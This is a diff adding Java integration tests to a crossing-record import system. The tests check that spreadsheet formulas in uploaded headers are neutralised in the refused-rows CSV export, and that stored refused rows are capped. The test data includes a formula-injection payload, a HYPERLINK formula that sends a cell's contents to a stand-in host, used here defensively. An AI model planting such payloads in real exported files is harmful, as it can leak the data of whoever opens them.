@@ -16,13 +16,16 @@ import java.util.Locale;
 import java.util.Map;
 
 import id.pantau.PantauIntegrationTest;
+import id.pantau.WebSession;
 import id.pantau.crossings.domain.CrossingImports;
 import id.pantau.crossings.domain.ImportResult;
+import id.pantau.platform.tables.Csv;
 import id.pantau.platform.tables.UnreadableFile;
 import id.pantau.platform.tables.Workbooks;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.context.MessageSource;
 import org.springframework.jdbc.core.simple.JdbcClient;
 
@@ -44,6 +47,9 @@ class CrossingWorkbookImportIntegrationTests {
 
 	@Autowired
 	MessageSource messages;
+
+	@LocalServerPort
+	int port;
 
 	@Test
 	void aWorkbookWithDateCellsTextAndNumbersImportsLikeTheSameDataInCsv() throws Exception {
@@ -88,6 +94,65 @@ class CrossingWorkbookImportIntegrationTests {
 		assertThat(jdbc.sql("select reason_key || ' ' || raw from import_row_error where batch_id = :batch")
 				.param("batch", fromXlsx.batchId()).query(String.class).single())
 				.startsWith("import.row.formula").contains("'=CONCAT(");
+	}
+
+	/**
+	 * Issue 16, item 10: the refused-rows file wrote the uploaded header as it came, so a header cell
+	 * {@code =HYPERLINK(...)} ran as a formula in the spreadsheet of whoever opened it. Every cell of it, the header
+	 * included, now goes through the one formula guard.
+	 */
+	@Test
+	void aFormulaInTheHeaderIsNeutralisedInTheRefusedRowsFile() throws Exception {
+		String tag = unique();
+		List<Object> header = new ArrayList<>(HEADER);
+		header.add("=HYPERLINK(\"http://contoh.test/?\"&A2,\"klik\")");
+		header.add("@SUM(1+1)");
+		Path file = Workbooks.write(folder, true, List.of(header,
+				List.of("NAIK", "2026-04-03 10:00", "TUAL-LAUT", "X" + tag, "MMR", "AUNG", "", "", "", "", "", "catatan",
+						"=1+2")));
+		ImportResult result = imports.importFile(file, provenance("rumus.xlsx"), null, p -> {
+		});
+		assertThat(result.refused()).isEqualTo(1);
+
+		String refused = WebSession.loggedIn(port, "imigrasi")
+				.get("/perlintasan/batch/" + result.batchId() + "/ditolak.csv").body();
+		List<String> headerCells = Csv.fields(refused.lines().findFirst().orElseThrow().substring(1));
+		assertThat(headerCells).contains("'=HYPERLINK(\"http://contoh.test/?\"&A2,\"klik\")", "'@SUM(1+1)",
+				"alasan_ditolak");
+		refused.lines().skip(1).map(Csv::fields).forEach(cells -> assertThat(cells)
+				.noneMatch(Csv::isFormula).contains("'=1+2"));
+		assertThat(headerCells).noneMatch(Csv::isFormula);
+	}
+
+	/**
+	 * Issue 16, item 6: a workbook of a million bad rows kept every one of them. All are counted, the first
+	 * {@code pantau.crossings.max-stored-refused-rows} kept, and the batch's page says that the rest were only counted.
+	 */
+	@Test
+	void refusedRowsBeyondTheCapAreCountedNotKeptAndThePageSaysSo() throws Exception {
+		int cap = imports.maxStoredRefusedRows();
+		int bad = cap + 25;
+		List<List<Object>> sheet = new ArrayList<>();
+		sheet.add(HEADER);
+		String tag = unique();
+		for (int i = 0; i < bad; i++) {
+			sheet.add(List.of("NAIK", "2026-04-03 10:00", "TUAL-LAUT", "X" + tag + i, "MMR", "AUNG"));
+		}
+		sheet.add(List.of("MASUK", "2026-04-03 10:00", "TUAL-LAUT", "G" + tag, "MMR", "AUNG"));
+		Path file = Workbooks.write(folder, true, sheet);
+
+		ImportResult result = imports.importFile(file, provenance("banyak-salah.xlsx"), null, p -> {
+		});
+
+		assertThat(result.refused()).isEqualTo(bad);
+		assertThat(result.added()).isEqualTo(1);
+		assertThat(jdbc.sql("select count(*) from import_row_error where batch_id = :batch")
+				.param("batch", result.batchId()).query(Long.class).single()).isEqualTo(cap);
+		WebSession officer = WebSession.loggedIn(port, "imigrasi");
+		assertThat(officer.get("/perlintasan/batch/" + result.batchId()).body()).contains("id=\"refused-capped\"")
+				.contains("25 baris lain yang ditolak hanya dihitung");
+		assertThat(officer.get("/perlintasan/batch/" + result.batchId() + "/ditolak.csv").body().lines().count())
+				.isEqualTo(cap + 1);
 	}
 
 	@Test
